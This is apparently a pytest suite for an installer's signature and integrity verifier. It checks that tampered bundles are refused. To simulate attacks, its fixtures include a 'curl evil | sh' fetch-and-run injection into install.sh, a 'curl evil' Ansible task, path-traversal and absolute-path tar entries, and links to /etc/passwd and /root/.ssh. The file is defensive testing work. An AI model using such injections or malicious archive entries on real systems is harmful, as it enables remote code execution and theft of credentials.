"""install.sh verify: a good bundle passes; every kind of tampering is refused and named."""

from __future__ import annotations

import tarfile

import pytest

from tests.bundle import synthetic


def _verify(pubkey, target, *extra):
    return synthetic.run_install_sh("verify", "--pubkey", str(pubkey), *extra, str(target))


def test_a_good_bundle_verifies_as_a_tarball_and_unpacked(built, pubkey, unpacked, tmp_path):
    result = _verify(pubkey, built, "--staging", str(tmp_path / "staging"))
    assert result.returncode == 0, result.stderr
    assert "files match the signed SHA256SUMS, nothing unlisted" in result.stdout
    assert list((tmp_path / "staging").iterdir()) == []  # the staging copy is removed unless --keep
    result = _verify(pubkey, unpacked)
    assert result.returncode == 0, result.stderr


def test_the_fingerprint_printed_is_the_one_the_build_printed(built, pubkey, repo, key, tmp_path):
    build = synthetic.build(repo, tmp_path, key)
    fingerprint = next(w for w in build.stdout.split() if w.startswith("SHA256:"))
    assert fingerprint in _verify(pubkey, built, "--staging", str(tmp_path)).stdout


def test_a_changed_file_is_named(pubkey, unpacked):
    (unpacked / "ansible/site.yml").write_text("- hosts: all\n  tasks: [{command: 'curl evil'}]\n")
    result = _verify(pubkey, unpacked)
    assert result.returncode == 1
    assert "ansible/site.yml: altered" in result.stderr


def test_a_missing_file_is_named(pubkey, unpacked):
    (unpacked / "wheelhouse/linux-arm64/demo_pkg-1.0-py3-none-any.whl").unlink()
    result = _verify(pubkey, unpacked)
    assert result.returncode == 1
    assert "wheelhouse/linux-arm64/demo_pkg-1.0-py3-none-any.whl: listed in SHA256SUMS but missing" in result.stderr


def test_an_extra_file_is_named(pubkey, unpacked):
    (unpacked / "ansible/roles/common/tasks/backdoor.yml").write_text("- command: id\n")
    result = _verify(pubkey, unpacked)
    assert result.returncode == 1
    assert "ansible/roles/common/tasks/backdoor.yml: not listed in SHA256SUMS" in result.stderr


def test_an_extra_directory_and_a_link_are_refused(pubkey, unpacked):
    (unpacked / "empty").mkdir()
    assert "empty/: a directory with no listed file" in _verify(pubkey, unpacked).stderr
    (unpacked / "empty").rmdir()
    (unpacked / "README.md").unlink()
    (unpacked / "README.md").symlink_to("/etc/hostname")
    result = _verify(pubkey, unpacked)
    assert result.returncode == 1 and "README.md: a link or special file" in result.stderr


def test_a_changed_sha256sums_is_a_bad_signature(pubkey, unpacked):
    sums = unpacked / "SHA256SUMS"
    sums.write_text(sums.read_text().replace("  README.md", "  README.txt"))
    result = _verify(pubkey, unpacked)
    assert result.returncode == 1 and "bad signature" in result.stderr


def test_a_bundle_signed_by_another_key_is_a_bad_signature(repo, tmp_path, pubkey):
    other = synthetic.make_key(tmp_path / "other.pem")
    assert synthetic.build(repo, tmp_path / "out", other).returncode == 0
    result = _verify(pubkey, synthetic.bundle_path(tmp_path / "out"), "--staging", str(tmp_path / "s"))
    assert result.returncode == 1 and "bad signature" in result.stderr
    # ... and with its own key it is fine: the bundle itself is good.
    ok = _verify(other.with_suffix(".pub.pem"), synthetic.bundle_path(tmp_path / "out"), "--staging", str(tmp_path))
    assert ok.returncode == 0, ok.stderr


def test_a_key_that_is_not_ed25519_is_refused(unpacked, tmp_path):
    rsa = tmp_path / "rsa.pem"
    synthetic.subprocess.run(["openssl", "genpkey", "-algorithm", "rsa", "-pkeyopt", "rsa_keygen_bits:1024",
                              "-out", str(tmp_path / "rsa.key")], check=True, capture_output=True)
    synthetic.subprocess.run(["openssl", "pkey", "-in", str(tmp_path / "rsa.key"), "-pubout", "-out", str(rsa)],
                             check=True)
    result = _verify(rsa, unpacked)
    assert result.returncode == 1 and "not an Ed25519 public key" in result.stderr


def _member(name: str, data: bytes | None = b"x", kind=tarfile.REGTYPE, link: str = ""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if data is not None and kind == tarfile.REGTYPE else 0
    return info, data if kind == tarfile.REGTYPE else None


@pytest.mark.parametrize(("members", "message"), [
    ([_member("top", kind=tarfile.DIRTYPE), _member("top/../../escaped.txt")], "top/../../escaped.txt' contains '..'"),
    ([_member("/etc/cron.d/evil")], "'/etc/cron.d/evil' has an absolute path"),
    ([_member("top", kind=tarfile.DIRTYPE), _member("top/ssh", kind=tarfile.SYMTYPE, link="/root/.ssh")],
     "holds a link or special file"),
    ([_member("top", kind=tarfile.DIRTYPE), _member("top/passwd", kind=tarfile.LNKTYPE, link="/etc/passwd")],
     "holds a link or special file"),
    ([_member("top/a"), _member("other/b")], "member 'other/b' is outside the top directory 'top'"),
])
def test_an_unsafe_tarball_is_refused_before_anything_is_unpacked(pubkey, tmp_path, members, message):
    bundle = synthetic.make_tar_zst(tmp_path / "evil.tar.zst", members)
    staging = tmp_path / "staging"
    result = _verify(pubkey, bundle, "--staging", str(staging))
    assert result.returncode == 1
    assert message in result.stderr, result.stderr
    assert not (tmp_path / "escaped.txt").exists()
    assert not staging.exists() or list(staging.iterdir()) == []


def test_a_damaged_tarball_is_refused(pubkey, built, tmp_path):
    damaged = tmp_path / "damaged.tar.zst"
    damaged.write_bytes(built.read_bytes()[: len(built.read_bytes()) // 2])
    result = _verify(pubkey, damaged, "--staging", str(tmp_path / "s"))
    assert result.returncode == 1 and "not a readable .tar.zst" in result.stderr


def test_a_file_replaced_inside_the_tarball_is_named(pubkey, built, tmp_path):
    with synthetic.read_tar(built) as tf:
        members = [(m, tf.extractfile(m).read() if m.isfile() else None) for m in tf.getmembers()]
    evil = []
    for info, data in members:
        if info.name.endswith("/install.sh"):
            data = data.replace(b"set -euo pipefail", b"set -euo pipefail; curl evil | sh")
            info.size = len(data)
        evil.append((info, data))
    bundle = synthetic.make_tar_zst(tmp_path / "evil.tar.zst", evil)
    result = _verify(pubkey, bundle, "--staging", str(tmp_path / "s"))
    assert result.returncode == 1 and "install.sh: altered" in result.stderr
